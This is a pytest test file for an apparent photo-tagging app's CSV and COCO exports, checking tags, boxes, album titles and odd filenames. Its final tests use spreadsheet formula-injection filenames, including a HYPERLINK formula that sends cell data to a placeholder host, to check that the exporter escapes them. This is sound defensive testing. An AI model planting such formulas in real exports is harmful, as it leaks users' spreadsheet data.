from dataclasses import replace
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient

from app.domain.albums import Album
from app.domain.corrections import Correction, DrawnBox
from app.domain.ids import created_at, new_id
from app.domain.ports import Albums, Images
from app.domain.tags import TagEdit
from detector import BoundingBox, Detection
from detector.metadata.values import CaptureTime, TimeSource
from tests.support.exports import check_coco, export, fetch_pages, list_boxes, make_image, table_rows

MOMENT = datetime(2026, 1, 31, 12, tzinfo=UTC)
TAKEN = CaptureTime(datetime(2019, 7, 28), TimeSource.NAME, date_only=True)  # noqa: DTZ001 - a local time


def test_csv_has_row_for_each_tag_of_each_image(client: TestClient, images: Images, owner: str) -> None:
    edits = {"cat": TagEdit(3, MOMENT, certain=1), "dog": TagEdit(5, MOMENT), "bird": TagEdit(0, MOMENT)}
    tagged = images.save(replace(make_image(owner, dog=2, person=1, bird=1), edits=edits, taken=TAKEN, favourite=True))
    untagged = images.save(make_image(owner))

    (response,) = fetch_pages(client, "csv")

    added = [created_at(image.id).isoformat(timespec="seconds") for image in (untagged, tagged)]
    image_cells = [tagged.id, "beach.jpg", added[1], "2019-07-28", "64", "48"]
    assert table_rows(response) == [
        [
            "id",
            "name",
            "added",
            "taken",
            "width",
            "height",
            "tag",
            "count",
            "boxes",
            "edited",
            "taken_source",
            "certain",
            "favourite",
            "albums",
        ],
        [untagged.id, "beach.jpg", added[0], added[0], "64", "48", "", "0", "0", "", "upload", "0", "0", ""],
        [*image_cells, "dog", "5", "2", "2026-01-31T12:00:00+00:00", "name", "5", "1", ""],
        [*image_cells, "cat", "3", "0", "2026-01-31T12:00:00+00:00", "name", "1", "1", ""],
        [*image_cells, "person", "1", "1", "", "name", "1", "1", ""],
    ]
    assert response.text.count("\r\n") == response.text.count("\n") == 5


def test_coco_has_annotation_for_each_detection(client: TestClient, images: Images, owner: str) -> None:
    detections = tuple(Detection("Dog", 0.8765, BoundingBox(left, 2.0, 30.0, 40.1)) for left in (0.3, 1.5))
    saved = images.save(
        replace(make_image(owner), detections=detections, edits={"cat": TagEdit(3, MOMENT)}, taken=TAKEN)
    )

    document = export(client, "coco")

    check_coco(document)
    assert document["images"] == [
        {
            "id": 1,
            "file_name": "beach.jpg",
            "width": 64,
            "height": 48,
            "date_captured": "2019-07-28",
            "date_captured_source": "name",
            "pixtag_id": saved.id,
            "model": "fake@1",
            "tags": {"cat": 3, "dog": 2},
            "favourite": False,
            "albums": [],
        }
    ]
    assert document["categories"] == [{"id": 1, "name": "dog", "supercategory": ""}]
    common = {"image_id": 1, "category_id": 1, "segmentation": [], "iscrowd": 0, "score": 0.8765, "source": "model"}
    assert document["annotations"] == [
        {"id": 1, "bbox": [0.3, 2.0, 29.7, 38.1], "area": 1131.57, **common},
        {"id": 2, "bbox": [1.5, 2.0, 28.5, 38.1], "area": 1085.85, **common},
    ]
    assert document["info"]["description"] == "A page of a PixTag library"
    assert document["licenses"] == []


def test_export_contains_titles_of_albums(client: TestClient, images: Images, albums: Albums, owner: str) -> None:
    made = [Album(new_id(), title, MOMENT) for title in ("Summer; =2019", '+1, at the "sea"')]
    for album in made:
        albums.put(owner, album)
    ids = tuple(sorted(each.id for each in made))
    images.save(replace(make_image(owner, dog=1, cat=1), albums=ids))

    assert [row[13] for row in export(client)] == ["'+1, at the \"sea\"\nSummer;' =2019"] * 2
    assert export(client, "coco")["images"][0]["albums"] == ['+1, at the "sea"', "Summer; =2019"]


def test_export_leaves_out_deleted_albums(client: TestClient, images: Images, albums: Albums, owner: str) -> None:
    album = Album(new_id(), "Summer", MOMENT)
    albums.put(owner, album)
    images.save(replace(make_image(owner), albums=(album.id,)))
    albums.delete(owner, album.id)

    assert [row[13] for row in export(client)] == [""]


def test_export_contains_moved_and_drawn_boxes(client: TestClient, images: Images, owner: str) -> None:
    before = make_image(owner, dog=1)
    moved = Correction("dog", before.detections[0].box, "dog", MOMENT, moved=BoundingBox(0.0, 0.0, 64.0, 10.1))
    drawn = DrawnBox(new_id(), "fox", BoundingBox(10.3, 20.0, 30.0, 48.0), MOMENT)
    saved = images.save(replace(before, corrections=(moved,), drawn=(drawn,)))

    document = export(client, "coco")

    check_coco(document)
    assert list_boxes(document) == [(saved.id, "dog", [0, 0, 64, 10.1]), (saved.id, "fox", [10.3, 20, 19.7, 28])]
    assert [(each["score"], each["source"]) for each in document["annotations"]] == [(0.9, "model"), (1, "person")]
    assert [(row[6], row[8], row[9]) for row in export(client, "csv")] == [
        ("dog", "1", ""),
        ("fox", "1", "2026-01-31T12:00:00+00:00"),
    ]


def test_coco_excludes_detections_of_removed_tags(client: TestClient, images: Images, owner: str) -> None:
    edits = {"dog": TagEdit(0, MOMENT), "cat": TagEdit(1, MOMENT)}
    saved = images.save(replace(make_image(owner, dog=1, cat=2), edits=edits))

    document = export(client, "coco")

    assert list_boxes(document) == [(saved.id, "cat", [1.5, top, 28.5, 1.5]) for top in (2.0, 4.0)]
    assert document["images"][0]["tags"] == {"cat": 1}


@pytest.mark.parametrize(
    "name",
    [
        'the "best", of all.jpg',
        "two\r\nlines.jpg",
        "a,b;c\td.jpg",
        "'quoted'.jpg",
        "👩‍👩‍👧 Ελλάδα 写真.jpg",
        "5.jpg",
    ],
)
def test_name_with_special_characters_is_exported_unchanged(
    client: TestClient, images: Images, owner: str, name: str
) -> None:
    images.save(replace(make_image(owner, dog=1), name=name, edits={name: TagEdit(2, MOMENT)}))

    assert [(row[1], row[6]) for row in export(client)] == [(name, name), (name, "dog")]
    entry = export(client, "coco")["images"][0]
    assert (entry["file_name"], entry["tags"][name]) == (name, 2)


def test_coco_with_unicode_name_is_ascii(client: TestClient, images: Images, owner: str) -> None:
    images.save(replace(make_image(owner), name="写真.jpg"))

    (response,) = fetch_pages(client, "coco")

    assert response.content.isascii()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="])
def test_csv_cell_that_starts_a_formula_is_escaped(client: TestClient, images: Images, owner: str, start: str) -> None:
    name = f'{start}HYPERLINK("http://x.example?"&A1,"see")'
    images.save(replace(make_image(owner), name=name, edits={name: TagEdit(1, MOMENT)}))

    (row,) = export(client)

    assert (row[1], row[6]) == (f"'{name}", f"'{name}")
    assert row[4:6] + row[7:9] == ["64", "48", "1", "0"]
    assert export(client, "coco")["images"][0]["file_name"] == name


def test_csv_formula_after_semicolon_is_escaped(client: TestClient, images: Images, owner: str) -> None:
    images.save(replace(make_image(owner), name="sea; sand;=1+1; -2.jpg"))

    (row,) = export(client)

    assert row[1] == "sea; sand;'=1+1;' -2.jpg"
